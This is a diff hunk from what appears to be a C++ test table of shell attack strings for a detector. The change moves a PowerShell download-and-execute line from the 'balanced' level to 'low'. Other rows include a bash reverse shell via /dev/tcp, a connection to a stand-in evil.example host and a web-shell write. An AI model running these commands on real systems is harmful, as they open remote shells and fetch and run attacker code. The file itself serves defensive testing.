@@ -66,7 +66,7 @@ constexpr Row kAttacks[] = {
     {"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "low"},
     {"exec 5<>/dev/tcp/evil.example/80", "low"},
     {"id > shell.php", "balanced"},
-    {"IEX(New-Object Net.WebClient).DownloadString('http://evil.example')", "balanced"},
+    {"IEX(New-Object Net.WebClient).DownloadString('http://evil.example')", "low"},
     {"%COMSPEC% /c dir", "balanced"},
     {"for /f %i in (a.txt) do echo %i", "balanced"},
     {"if not exist c:\\x.txt (del y)", "balanced"},
